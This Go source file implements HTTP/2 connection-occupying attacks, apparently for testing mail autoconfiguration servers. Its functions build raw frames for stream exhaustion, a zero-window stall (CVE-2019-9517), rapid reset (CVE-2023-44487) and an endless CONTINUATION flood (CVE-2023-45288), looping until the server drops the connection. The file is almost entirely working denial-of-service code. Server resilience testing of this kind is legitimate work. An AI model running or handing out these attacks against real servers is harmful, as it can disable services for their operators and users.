//go:build linux

package main

import (
	"bytes"
	"io"
	"net"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// occupyHTTP2 holds an HTTP/2 connection until the server closes it. It uses frames,
// not a client, because no client would do what these do.
func occupyHTTP2(conn net.Conn, kind string) {
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return
	}
	frames := http2.NewFramer(conn, conn)
	var settings []http2.Setting
	if kind == "h2-deaf" {
		settings = []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}
	}
	if frames.WriteSettings(settings...) != nil {
		return
	}
	ended := make(chan struct{})
	go func() {
		defer close(ended)
		_, _ = io.Copy(io.Discard, conn)
	}()
	write := map[string]func(*http2.Framer, uint32) error{
		"h2-streams":      openStream,
		"h2-deaf":         requestStream,
		"h2-reset":        resetStream,
		"h2-continuation": continueHeader,
	}[kind]
	// A client's streams have odd numbers.
	for stream := uint32(1); ; stream += 2 {
		if write != nil && write(frames, stream) != nil {
			return
		}
		select {
		case <-ended:
			return
		case <-time.After(100 * time.Millisecond):
		}
	}
}

// openStream begins a request whose body never comes.
func openStream(frames *http2.Framer, stream uint32) error {
	return frames.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: header("POST", "/autodiscover/autodiscover.xml"), EndHeaders: true})
}

// requestStream sends a whole request. With a window of 0, its answer cannot be sent
// (CVE-2019-9517).
func requestStream(frames *http2.Framer, stream uint32) error {
	return frames.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: header("GET", "/mail/config-v1.1.xml"), EndHeaders: true, EndStream: true})
}

// resetStream sends a request and takes it back at once (CVE-2023-44487).
func resetStream(frames *http2.Framer, stream uint32) error {
	if err := requestStream(frames, stream); err != nil {
		return err
	}
	return frames.WriteRSTStream(stream, http2.ErrCodeCancel)
}

// continueHeader sends one header without an end (CVE-2023-45288).
func continueHeader(frames *http2.Framer, stream uint32) error {
	if stream == 1 {
		return frames.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: header("GET", "/mail/config-v1.1.xml")})
	}
	var more bytes.Buffer
	_ = hpack.NewEncoder(&more).WriteField(hpack.HeaderField{Name: "x-more", Value: "more and more", Sensitive: true})
	return frames.WriteContinuation(1, false, more.Bytes())
}

// header encodes the header of a request. Its encoder is new, so that no stream depends
// on the table of an earlier one.
func header(method, path string) []byte {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	encoder.SetMaxDynamicTableSize(0)
	for _, f := range []hpack.HeaderField{
		{Name: ":method", Value: method}, {Name: ":scheme", Value: "https"},
		{Name: ":authority", Value: "autoconfig.a.example"}, {Name: ":path", Value: path},
	} {
		_ = encoder.WriteField(f) // to memory
	}
	return block.Bytes()
}
